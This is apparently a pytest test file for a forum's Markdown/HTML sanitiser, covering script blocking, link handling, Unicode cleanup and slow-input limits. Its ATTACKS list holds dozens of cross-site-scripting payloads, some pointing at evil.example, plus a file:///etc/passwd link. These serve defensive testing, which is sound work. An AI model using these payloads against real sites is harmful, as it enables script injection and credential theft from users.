"""What people write is tidied when it arrives, and cannot run in anybody's browser."""

import time
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from forum.core.text import ATTRIBUTES, MARKS, TAGS, clean, render, render_in_thread

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><input name=password></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://a.example"onmouseover=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    '![x" onerror=alert(1) "](x)',
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "http://a.example/<script>alert(1)</script>",
    'http://a.example/"onmouseover=alert(1)',
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<scr\ud800ipt>alert(1)</scr\udc00ipt>",
    "\u202e<script>alert(1)</script>",
]

any_text = st.text(st.characters(), max_size=200)
marked_up = st.lists(
    st.sampled_from(
        [*"*_`~[]()<>!#|-\n &;:/\\\"'= aé", "http://", "javascript:", "<b>", "- ", "> "]
    ),
    max_size=60,
).map("".join)


class Seen(HTMLParser):
    """What a browser would find in a piece of HTML."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.links = set(), set(), []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]


def assert_harmless(html):
    seen = Seen(html)
    assert seen.tags <= TAGS
    assert seen.attributes <= {(tag, name) for tag, names in ATTRIBUTES.items() for name in names}
    for link in seen.links:
        scheme = link.partition(":")[0].lower()
        assert ":" not in link or scheme in {"http", "https", "mailto"} or "/" in scheme


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_a_citizen_writes_runs_in_a_browser(attack):
    assert_harmless(render(attack))


@given(any_text | marked_up)
def test_whatever_is_typed_becomes_harmless_html(source):
    assert_harmless(render(source))


def test_sari_may_stress_a_word_make_a_list_and_name_an_address():
    html = render("Tolong **lebih cepat**:\n\n- satu\n- dua\n\nLihat www.contoh.go.id")
    assert "<strong>lebih cepat</strong>" in html
    assert "<li>satu</li>" in html
    assert 'href="http://www.contoh.go.id" rel="nofollow ugc noopener"' in html


def test_markup_that_budi_typed_by_mistake_is_shown_as_he_typed_it():
    assert "umur &lt;b&gt; 17" in render("umur <b> 17")


def test_a_heading_in_a_comment_stays_below_the_headings_of_the_page():
    assert render("# Usul\n\n## Alasan") == "<h3>Usul</h3>\n<h4>Alasan</h4>\n"


def test_only_links_that_lead_away_are_marked_as_such():
    assert render("[klausul](/standards/ktp)") == '<p><a href="/standards/ktp">klausul</a></p>\n'
    assert "nofollow" in render("[x](//lain.example/a)")


def test_no_more_is_read_than_the_limit_allows():
    assert render("a" * 50, limit=10) == f"<p>{'a' * 10}</p>\n"


async def test_text_is_rendered_the_same_beside_other_work():
    assert await render_in_thread("**Sari**") == render("**Sari**")


@pytest.mark.parametrize(
    "hostile",
    [
        "[" * 10_000,
        "&" * 10_000,
        "[a](b" * 2_000,
        "![a" * 3_000,
        "> " * 5_000,
        "|a" * 5_000,
        "a|b\n-|-\n" + "|\n" * 4_990,
        "a.a.a-" * 1_666,
        "1-" * 5_000,
        "http://a.example/" + ")" * 9_980,
        "http://!" * 1_250,
    ],
    ids=[
        "brackets",
        "ampersands",
        "links",
        "images",
        "quotes",
        "cells",
        "empty cells",
        "half addresses",
        "hyphens",
        "an address in brackets",
        "addresses without an end",
    ],
)
def test_hostile_text_costs_no_more_than_a_moment(hostile):
    started = time.process_time()
    render(hostile)
    assert time.process_time() - started < 1


def test_a_table_of_nothing_is_shown_as_it_was_typed():
    empty = "a|b\n-|-\n" + "|\n" * 4_000
    assert "<td" not in render(empty)
    assert len(render(empty)) < 5 * len(empty)
    assert "<td>7 hari</td>" in render("hari|biaya\n-|-\n7 hari|gratis")


def test_an_address_ends_where_its_sentence_ends():
    html = render("Lihat https://contoh.go.id/ktp?a=1; atau (www.contoh.go.id). Bukan contoh.id!")
    assert 'href="https://contoh.go.id/ktp?a=1"' in html
    assert 'href="http://www.contoh.go.id"' in html
    assert html.count("<a ") == 2


@given(any_text)
def test_tidying_twice_changes_nothing_more(text):
    assert clean(clean(text)) == clean(text)


@given(any_text)
def test_tidy_text_can_be_stored_anywhere(text):
    tidy = clean(text)
    assert tidy == unicodedata.normalize("NFC", tidy) == tidy.strip()
    assert tidy.encode("utf-8").decode("utf-8") == tidy
    assert not any(unicodedata.category(char) == "Cc" for char in tidy if char not in "\t\n")


@given(st.text("abc ,.\n", max_size=80))
def test_plain_words_stay_as_they_were_typed(text):
    assert clean(text) == text.strip()


@given(st.text("e\u0301\u0316\u0344\u20dd", max_size=60))
def test_marks_never_pile_up_on_one_letter(text):
    tidy, run = clean(text), 0
    for char in tidy:
        run = run + 1 if unicodedata.category(char).startswith("M") else 0
        assert run <= MARKS


def test_a_million_marks_are_cut_at_once():
    started = time.process_time()
    assert clean("a" + "\u0301\u0316" * 500_000).startswith("á")
    assert time.process_time() - started < 2


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("  14 hari \r\n kerja \r\n", "14 hari \n kerja"),
        ("satu\rdua\u2028tiga\x0cempat", "satu\ndua\ntiga\nempat"),
        ("e\u0301", "é"),
        ("a\x00b\x07c", "abc"),
        ("14\u202e lirpa", "14 lirpa"),
        ("a\ud83d b", "a b"),
        ("\u200b \u2060\ufeff", ""),
        ("👩\u200d👧 می\u200cفروشم", "👩\u200d👧 می\u200cفروشم"),
    ],
    ids=[
        "spaces and line ends",
        "strange line ends",
        "accents",
        "controls",
        "overrides",
        "half a character",
        "nothing to be seen",
        "joiners that carry meaning",
    ],
)
def test_text_is_kept_without_what_misleads(typed, kept):
    assert clean(typed) == kept
